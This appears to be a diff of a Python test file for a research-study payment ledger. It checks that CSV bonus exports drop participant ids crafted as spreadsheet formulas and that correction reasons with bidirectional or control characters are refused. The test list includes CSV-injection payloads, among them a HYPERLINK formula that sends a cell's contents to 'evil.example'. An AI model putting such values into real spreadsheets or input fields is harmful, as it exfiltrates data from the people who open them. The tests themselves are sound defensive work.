@@ -214,10 +214,20 @@ def hand(client: TestClient, app: Any, make_user: MakeUser, stub_model: Threaded
         labelling = _link(session, task_id, round_["id"], "validators", StudyRole.validator, Platform.mturk)
         sessions = {
             "wanda": _study_session(
-                session, writing, ids["wanda"], StudySessionStatus.completed, worker_id="PID_WANDA", minutes=20
+                session,
+                writing,
+                ids["wanda"],
+                StudySessionStatus.completed,
+                worker_id="5a0c0ffee0000000000000a1",
+                minutes=20,
             ),
             "wes": _study_session(
-                session, writing, ids["wes"], StudySessionStatus.stopped, worker_id="PID_WES", minutes=5
+                session,
+                writing,
+                ids["wes"],
+                StudySessionStatus.stopped,
+                worker_id="5b0c0ffee0000000000000b2",
+                minutes=5,
             ),
             "v1": _study_session(
                 session,
@@ -479,7 +489,7 @@ def test_the_bonus_files_are_exactly_the_platforms_formats(client: TestClient, a
     assert prolific.status_code == 200, prolific.text
     # wanda: 10 (E1) + 15 (correction of a bonus) = 25 -> 0.25; wes: 10 (E4) -> 0.10.
     # v1, v2, v4 have bonuses but no Prolific id: not in the file, named in the headers.
-    assert prolific.text == "PID_WANDA,0.25\nPID_WES,0.10\n"
+    assert prolific.text == "5a0c0ffee0000000000000a1,0.25\n5b0c0ffee0000000000000b2,0.10\n"
     assert prolific.headers["content-disposition"] == 'attachment; filename="dynasent-r2-bonuses-prolific.csv"'
     assert prolific.headers["content-type"].startswith("text/csv")
     assert prolific.headers["x-ledger-without-platform-id"] == "3"
@@ -529,6 +539,97 @@ def test_the_bonus_files_are_exactly_the_platforms_formats(client: TestClient, a
     api_report = client.get(f"{API}/tasks/{TASK}/crowd-report", headers=rita.headers)
     assert api_report.status_code == 200, api_report.text
     assert [link["name"] for link in api_report.json()["data"]] == ["writers", "validators"]
+
+
+# Ids a participant chooses in the study link (PROLIFIC_PID=..., workerId=...) that a spreadsheet
+# would evaluate as a formula (OWASP "CSV injection": cells starting with = + - @ tab or CR), or
+# that no platform issues.
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"pay")', "-2+3", "+1", "@SUM(1+1)", "\tcmd", "\rX", "PID_WES"]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_IDS)
+def test_an_id_the_platform_never_issues_never_reaches_a_bonus_file(
+    client: TestClient, app: Any, hand: HandRound, hostile: str
+) -> None:
+    """wes (Prolific) and v1 (MTurk, worker and assignment id) arrived with a made-up id: the bonus
+    files leave them out and name them, so no cell is evaluated and no one is paid by that id."""
+    with session_scope(app.state.sessionmaker) as session:
+        for name, worker, assignment in (("wes", hostile, None), ("v1", hostile, "ASG1"), ("v2", "A2WORKER", hostile)):
+            row = session.get(StudySession, hand.sessions[name])
+            assert row is not None
+            row.platform_worker_id = worker
+            if assignment is not None:
+                row.platform_session_id = assignment
+    before = table_snapshot(app, "ledger_entries", "study_sessions")
+    rita = hand.researcher
+    prolific = client.get(
+        f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "prolific"}, headers=rita.headers
+    )
+    assert prolific.status_code == 200, prolific.text
+    assert prolific.text == "5a0c0ffee0000000000000a1,0.10\n"  # wanda alone
+    assert prolific.headers["x-ledger-invalid-platform-id"] == "1"
+    assert prolific.headers["x-ledger-invalid-platform-id-users"] == "wes"
+    mturk = client.get(f"{API}/tasks/{TASK}/ledger/bonuses.csv", params={"platform": "mturk"}, headers=rita.headers)
+    assert mturk.status_code == 200, mturk.text
+    assert mturk.text == "worker_id,assignment_id,amount,reason\n"  # v1's worker id, v2's assignment id
+    assert mturk.headers["x-ledger-invalid-platform-id-users"] == "v1,v2"
+    for text in (prolific.text, mturk.text):
+        cells = [cell for line in text.splitlines() for cell in line.split(",")]
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+    assert table_snapshot(app, "ledger_entries", "study_sessions") == before
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        "refund \u202egnp.exe",  # right-to-left override: shows another reason than it stores
+        "refund \u2066isolated\u2069",  # isolates
+        "paid \u202atwice",  # left-to-right embedding
+        "NUL \x00 inside",
+        "escape \x1b[31m red",
+        "bell \x07",
+        "\u200b\u200b",  # only invisible characters
+    ],
+)
+def test_a_correction_reason_follows_the_text_policy(
+    client: TestClient, app: Any, hand: HandRound, reason: str
+) -> None:
+    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
+    before = table_snapshot(app, "ledger_entries", "audit_log")
+    response = client.post(
+        f"{API}/ledger/{entry_id}/corrections",
+        json={"amount_minor": 5, "reason": reason},
+        headers=hand.researcher.headers,
+    )
+    assert response.status_code == 422, response.text
+    message = response.json()["error"]["message"]
+    assert message.startswith("reason "), message
+    assert any(words in message for words in ("bidirectional control", "control character", "is empty")), message
+    assert table_snapshot(app, "ledger_entries", "audit_log") == before
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        "क्\u200dष bonus missed",  # Devanagari with a zero width joiner
+        "می\u200cخواهم bonus",  # Persian with a zero width non-joiner
+        "ሰላም፡ዓለም ጉርሻ",  # Ge'ez
+        "مبلغ ۱۲ \u200fپوند",  # a right-to-left mark is kept
+    ],
+)
+def test_a_correction_reason_in_any_script_is_kept_with_its_joiners(
+    client: TestClient, app: Any, hand: HandRound, reason: str
+) -> None:
+    entry_id = _entry_id(app, f"session:{hand.sessions['wanda']}")
+    response = client.post(
+        f"{API}/ledger/{entry_id}/corrections",
+        json={"amount_minor": 5, "reason": reason},
+        headers=hand.researcher.headers,
+    )
+    assert response.status_code == 201, response.text
+    with session_scope(app.state.sessionmaker) as session:
+        stored = session.get(LedgerEntry, response.json()["id"])
+        assert stored is not None and stored.reason == reason
 
 
 @pytest.mark.parametrize("platform", ["generic", "paypal", "", "PROLIFIC", "x" * 100])
@@ -682,7 +783,7 @@ def test_the_ledger_command_computes_shows_exports_and_corrects(app: Any, hand: 
     exported = run("export", "--task", TASK, "--platform", "prolific")
     assert exported.exit_code == 0, exported.output
     # wanda 10 (E1), wes 10 (E4): no corrections here.
-    assert exported.stdout == "PID_WANDA,0.10\nPID_WES,0.10\n"
+    assert exported.stdout == "5a0c0ffee0000000000000a1,0.10\n5b0c0ffee0000000000000b2,0.10\n"
     assert "v1, v2, v4" in exported.stderr
     assert run("export", "--task", TASK, "--platform", "generic").exit_code == 1
     entry_id = _entry_id(app, f"example:{hand.examples['E4']}")
